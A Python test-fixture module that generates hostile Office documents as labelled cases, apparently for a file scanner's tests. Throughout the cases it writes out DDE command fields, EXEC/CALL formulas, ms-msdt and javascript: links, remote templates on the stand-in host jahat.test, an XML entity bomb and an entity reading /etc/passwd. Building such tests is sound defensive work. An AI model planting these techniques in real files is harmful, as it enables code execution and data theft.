"""Office files that act: macros, objects, commands in fields and cells, parts fetched from elsewhere."""

from random import Random

from tests.factories.documents import (
    RELATION_TYPES,
    SHEET,
    SHOW,
    WORD,
    XML,
    office,
    office_parts,
    relations,
    zipped,
)
from tests.factories.hostile import Case

_OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
_ENTITIES = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 10))
ENTITY_BOMB = f'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY e0 "ha">{_ENTITIES}]><d>&e9;</d>'


def typed(content_type: str, extension: str = "docx") -> bytes:
    return office(extension, types=f'<Override PartName="/x.xml" ContentType="{content_type}"/>')


def related(kind: str, target: str, mode: str = "External", extension: str = "docx") -> bytes:
    folder = {"docx": "word", "xlsx": "xl", "pptx": "ppt"}[extension]
    return office(extension, more={f"{folder}/_rels/settings.xml.rels": relations((kind, target, mode))})


def field(*pieces: str) -> bytes:
    """A field whose code is cut into pieces."""
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "end"))
    codes = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    return office("docx", inside=f"<w:p>{begin}{codes}{end}</w:p>")


def sheet(cell: str) -> bytes:
    content = f'{XML}<worksheet xmlns="{SHEET}"><sheetData><row><c>{cell}</c></row></sheetData></worksheet>'
    return office("xlsx", more={"xl/worksheets/sheet1.xml": content})


def with_main(extension: str, content: str | bytes) -> bytes:
    parts = office_parts(extension)
    *_, main = parts
    return zipped({**parts, main: content})


def dde_workbook() -> bytes:
    link = f'{XML}<externalLink xmlns="{SHEET}"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
    return office("xlsx", more={"xl/externalLinks/externalLink1.xml": link})


def program_on_click() -> bytes:
    click = f'<a:hlinkClick xmlns:a="urn:a" action="ppaction://program?file=calc.exe" xmlns:p="{SHOW}"/>'
    return office("pptx", inside=click)


def nested_elements() -> bytes:
    return with_main(
        "docx", f'<w:document xmlns:w="{WORD}">' + "<w:p>" * 40_000 + "</w:p>" * 40_000 + "</w:document>"
    )


def endless_elements() -> bytes:
    """Few bytes when packed, so kept under the measure of bombs by what does not shrink."""
    noise = Random(1).randbytes(700_000)  # noqa: S311 - no secret
    flood = f'<worksheet xmlns="{SHEET}">' + "<c/>" * 13_000_000 + "</worksheet>"
    return office("xlsx", more={"xl/worksheets/sheet1.xml": flood, "xl/media/image1.bmp": noise})


def _word(name: str, code: str, make) -> Case:
    return Case(name, "docx", make, code)


def _book(name: str, code: str, make) -> Case:
    return Case(name, "xlsx", make, code)


_MACRO_TYPE = "application/vnd.ms-word.document.macroEnabled.main+xml"
_SHEET_TYPE = "application/vnd.ms-excel.macrosheet+xml"
_OLE_TYPE = "application/vnd.openxmlformats-officedocument.oleObject"

OFFICES = (
    _word("macro project", "has_macros", lambda: office("docx", more={"word/vbaProject.bin": _OLE})),
    _word(
        "macro project under another name",
        "has_macros",
        lambda: typed("application/vnd.ms-office.vbaProject"),
    ),
    _word("macro-enabled document renamed", "has_macros", lambda: typed(_MACRO_TYPE)),
    _book("macro sheet", "has_macros", lambda: office("xlsx", more={"xl/macrosheets/sheet1.xml": "<x/>"})),
    _book("macro sheet elsewhere", "has_macros", lambda: typed(_SHEET_TYPE, "xlsx")),
    _word("macros by relation", "has_macros", lambda: related("vbaProject", "x.bin", "")),
    _word("old format or locked", "old_or_locked", lambda: _OLE),
    _word("object", "has_embedded", lambda: office("docx", more={"word/embeddings/oleObject1.bin": _OLE})),
    _word("object elsewhere", "has_embedded", lambda: office("docx", more={"word/media/image1.png": _OLE})),
    _word("object by type", "has_embedded", lambda: typed(_OLE_TYPE)),
    _word("program", "has_embedded", lambda: office("docx", more={"word/media/a.exe": b"MZ"})),
    _word("program as picture", "has_embedded", lambda: office("docx", more={"word/media/a.png": b"MZ\x90"})),
    _word(
        "archive as picture",
        "has_embedded",
        lambda: office("docx", more={"word/media/a.png": office("docx")}),
    ),
    _word(
        "archive embedded",
        "has_embedded",
        lambda: office("docx", more={"word/embeddings/a.zip": office("docx")}),
    ),
    _word(
        "web page embedded", "has_embedded", lambda: office("docx", more={"word/afchunk.htm": b"<script>"})
    ),
    _word("web page by relation", "has_embedded", lambda: related("aFChunk", "page.xml", "")),
    Case("video", "pptx", lambda: office("pptx", more={"ppt/media/media1.mp4": b"ftypmp42"}), "has_embedded"),
    _word(
        "ActiveX", "has_active_content", lambda: office("docx", more={"word/activeX/activeX1.xml": "<x/>"})
    ),
    _word("ActiveX by type", "has_active_content", lambda: typed("application/vnd.ms-office.activeX+xml")),
    _word("DDE field", "has_active_content", lambda: field('DDE "cmd" "/c calc"')),
    _word("DDE field in pieces", "has_active_content", lambda: field(" DD", "EAU", 'TO "cmd"')),
    _word(
        "DDE in a simple field",
        "has_active_content",
        lambda: office("docx", inside='<w:p><w:fldSimple w:instr="ddeauto cmd"/></w:p>'),
    ),
    _word(
        "DDE field in UTF-16",
        "has_active_content",
        lambda: with_main(
            "docx",
            (
                f'<?xml version="1.0" encoding="UTF-16"?><w:document xmlns:w="{WORD}">'
                "<w:instrText>DDE a</w:instrText></w:document>"
            ).encode("utf-16"),
        ),
    ),
    _book("DDE link", "has_active_content", dde_workbook),
    _book("DDE formula", "has_active_content", lambda: sheet("<f>cmd|'/c calc'!A0</f>")),
    _book("DDE formula in references", "has_active_content", lambda: sheet("<f>cmd&#124;'/c calc'!A0</f>")),
    _book(
        "DDE formula as data section", "has_active_content", lambda: sheet("<f><![CDATA[cmd|'/c'!A0]]></f>")
    ),
    Case("program on a click", "pptx", program_on_click, "has_active_content"),
    _word("script as link", "has_active_content", lambda: related("hyperlink", "javascript:alert(1)")),
    _word("diagnosis as link", "has_active_content", lambda: related("hyperlink", "ms-msdt:/id PCW")),
    _word("remote template", "has_remote", lambda: related("attachedTemplate", "https://jahat.test/a.dotm")),
    _word("template on a share", "has_remote", lambda: related("attachedTemplate", r"\\jahat.test\a\b.dotm")),
    _word(
        "template on a share by address",
        "has_remote",
        lambda: related("attachedTemplate", "file://jahat.test/a"),
    ),
    _word("remote picture", "has_remote", lambda: related("image", "https://jahat.test/a.png")),
    _word("remote object", "has_embedded", lambda: related("oleObject", "https://jahat.test/a.html!")),
    _word(
        "strict remote template",
        "has_remote",
        lambda: related(
            "http://purl.oclc.org/ooxml/officeDocument/relationships/attachedTemplate", "http://jahat.test/"
        ),
    ),
    _book(
        "remote workbook",
        "has_remote",
        lambda: related("externalLinkPath", "https://jahat.test/a.xlsx", extension="xlsx"),
    ),
    _book(
        "data connection", "has_remote", lambda: office("xlsx", more={"xl/connections.xml": "<connections/>"})
    ),
    _word(
        "remote template behind a space",
        "has_remote",
        lambda: related("attachedTemplate", " http://jahat.test/"),
    ),
    _word(
        "remote template in percent signs",
        "has_remote",
        lambda: related("attachedTemplate", "%5C%5Cjahat.test%5Ca.dotm"),
    ),
    _word(
        "part of the package elsewhere", "has_remote", lambda: related("styles", "https://jahat.test/", "")
    ),
    _word("share as link", "has_remote", lambda: related("hyperlink", "file://///jahat.test/a")),
    _word("share as link by address", "has_remote", lambda: related("hyperlink", "file://jahat.test/a")),
    _word(
        "script as link in a field", "has_active_content", lambda: field('HYPERLINK "javascript:alert(1)"')
    ),
    _word(
        "diagnosis as link in a field", "has_active_content", lambda: field(r'HYPERLINK \\o "a" ms-msdt:/id')
    ),
    _word("remote picture in a field", "has_remote", lambda: field('INCLUDEPICTURE "https://jahat.test/a"')),
    _word("remote text in a field", "has_remote", lambda: field("INCLUDE", r'TEXT "\\\\jahat.test\\a.docx"')),
    _word(
        "remote text in a field by address", "has_remote", lambda: field("INCLUDETEXT file://jahat.test/a")
    ),
    _word(
        "remote sheet in a field", "has_remote", lambda: field(r"LINK Excel.Sheet.12 \\jahat.test\a.xlsx A1")
    ),
    _word(
        "remote picture in a field that was deleted",
        "has_remote",
        lambda: office(
            "docx", inside='<w:p><w:delInstrText>INCLUDEPICTURE "https://jahat.test/a"</w:delInstrText></w:p>'
        ),
    ),
    _word(
        "remote picture whose address another field makes",
        "has_remote",
        lambda: office(
            "docx",
            inside='<w:p><w:fldChar w:fldCharType="begin"/><w:instrText>INCLUDEPICTURE </w:instrText>'
            '<w:fldChar w:fldCharType="begin"/><w:instrText>QUOTE 104 116</w:instrText></w:p>',
        ),
    ),
    _word(
        "query for letters",
        "has_remote",
        lambda: office("docx", inside='<w:connectString w:val="Provider=SQLOLEDB;Data Source=jahat.test"/>'),
    ),
    _word("add-in", "has_active_content", lambda: related("webextension", "webextension1.xml", "")),
    _word(
        "add-in beside the page", "has_active_content", lambda: related("webextensiontaskpanes", "a.xml", "")
    ),
    _book("data connection elsewhere", "has_remote", lambda: related("connections", "a.xml", "", "xlsx")),
    _book("query of a table elsewhere", "has_remote", lambda: related("queryTable", "a.xml", "", "xlsx")),
    _book(
        "formula that asks the web",
        "has_remote",
        lambda: sheet('<f>_xlfn.WEBSERVICE("https://jahat.test/")</f>'),
    ),
    _book(
        "formula that shows a picture",
        "has_remote",
        lambda: sheet('<f>_xlfn.IMAGE("https://jahat.test/")</f>'),
    ),
    _book("formula that starts a server", "has_active_content", lambda: sheet('<f>RTD("a",,"b")</f>')),
    _book("formula that runs a program", "has_active_content", lambda: sheet('<f>1+EXEC ("calc")</f>')),
    _book(
        "formula that calls a library", "has_active_content", lambda: sheet('<f>CALL("urlmon","a","J")</f>')
    ),
    _word(
        "script as link of a drawing",
        "has_active_content",
        lambda: office("docx", more={"word/a.vml": '<v:shape xmlns:v="urn:v" href="javascript:alert(1)"/>'}),
    ),
    _word(
        "script of a picture",
        "has_active_content",
        lambda: office(
            "docx",
            more={"word/media/a.svg": '<svg xmlns="http://www.w3.org/2000/svg"><script>a()</script></svg>'},
        ),
    ),
    _word("entity bomb", "unreadable", lambda: with_main("docx", ENTITY_BOMB)),
    _word(
        "entity bomb aside", "unreadable", lambda: office("docx", more={"customXml/item1.xml": ENTITY_BOMB})
    ),
    _word(
        "entity bomb in a picture",
        "unreadable",
        lambda: office("docx", more={"word/media/a.svg": ENTITY_BOMB}),
    ),
    _word("entity bomb in a drawing", "unreadable", lambda: office("docx", more={"word/a.vml": ENTITY_BOMB})),
    _word(
        "declaration that leads outside",
        "unreadable",
        lambda: office("docx", more={"customXml/item1.xml": '<!DOCTYPE d SYSTEM "http://jahat.test/d"><d/>'}),
    ),
    _word(
        "declared entity that nothing uses",
        "unreadable",
        lambda: office(
            "docx", more={"word/media/a.svg": '<!DOCTYPE d [<!ENTITY e SYSTEM "file:///etc/passwd">]><d/>'}
        ),
    ),
    _word("elements in elements", "unreadable", nested_elements),
    _book("endless elements", "unpacks_too_large", endless_elements),
    _book("other root", "unreadable", lambda: with_main("xlsx", "<document/>")),
    _word("broken part", "unreadable", lambda: with_main("docx", "<document><p></document>")),
    _word(
        "broken relations",
        "unreadable",
        lambda: office("docx", more={"word/_rels/a.xml.rels": f"<R a='{RELATION_TYPES}'"}),
    ),
)
